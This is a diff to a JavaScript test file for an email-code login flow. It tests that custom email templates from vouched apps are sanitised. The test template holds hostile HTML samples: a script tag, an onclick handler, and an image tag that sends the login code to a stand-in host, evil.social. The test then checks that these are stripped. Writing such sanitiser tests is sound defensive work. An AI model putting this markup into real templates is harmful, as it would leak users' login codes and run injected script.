@@ -13,7 +13,8 @@ const CODE = /\b\d{8}\b/
 let network, host, app
 before(async () => {
   host = await startHost()
-  network = await startNetwork([{ name: 'one', env: host.setting }])
+  const env = { ...host.setting, PDS_OAUTH_TRUSTED_CLIENTS: `${host.origin}/vouched/client-metadata.json` }
+  network = await startNetwork([{ name: 'one', env: host.setting }, { name: 'two', env }])
   app = mailApp(host, network.one, network.plcUrl, 'notes')
 })
 after(async () => {
@@ -142,5 +143,39 @@ describe('somebody with a password', () => {
     const { page, code } = await mailed(carla.email, () => new Person(network.one.url).open(url))
     const session = await came(await answer(page, 'code', code), cookie)
     assert.equal(session.did, carla.session.did)
+  })
+})
+
+describe('the wishes of an app for its letters', () => {
+  const wishes = {
+    email_template_uri: 'https://app.demo.social/mail.html',
+    email_subject_template: '{{code}} — Your {{app_name}} code',
+  }
+  const template = `<!doctype html><html><head><title>x</title><script>steal()</script></head><body><h1 onclick="steal()">{{app_name}}</h1>
+<img src="{{logo_uri}}" alt=""><img src="https://evil.social/{{code}}.png"><p>{{code}}</p>
+{{#is_new_user}}<p>Welcome!</p>{{/is_new_user}}{{^is_new_user}}<p>Welcome back!</p>{{/is_new_user}}<div style="display:none">`
+
+  const letterOf = async (name, address) => {
+    // On a server of their own: few letters leave for one network.
+    const made = mailApp(host, network.two, network.plcUrl, name, wishes)
+    const { url } = await made.login(address)
+    return (await mailed(address, () => new Person(network.two.url).open(url))).letter
+  }
+  before(() => host.serve('/mail.html', template))
+
+  it('are granted if the operator vouches for it, without what could harm', async () => {
+    const letter = await letterOf('vouched', 'fern@mail.test')
+    assert.match(letter.subject, /^\d{8} — Your Your App Name code$/)
+    assert.match(letter.html, /<h1>Your App Name<\/h1>/)
+    assert.ok(letter.html.includes('https://app.demo.social/vouched/logo.png') && letter.html.includes('Welcome!'))
+    assert.ok(!/Welcome back|script|onclick|evil\.social/.test(letter.html), letter.html)
+    assert.ok(letter.html.split('<div style="display:none;"></div>')[1].includes('localhost'), 'a footer says who sent it')
+    const known = await letterOf('vouched', (await network.two.account('gail')).email)
+    assert.ok(known.html.includes('Welcome back!') && !known.html.includes('Welcome!'))
+  })
+
+  it('are not, if it is a stranger', async () => {
+    const letter = await letterOf('stranger', 'hugo@mail.test')
+    assert.ok(!letter.subject.includes('Your App Name') && !letter.html.includes('Welcome!'), letter.subject)
   })
 })
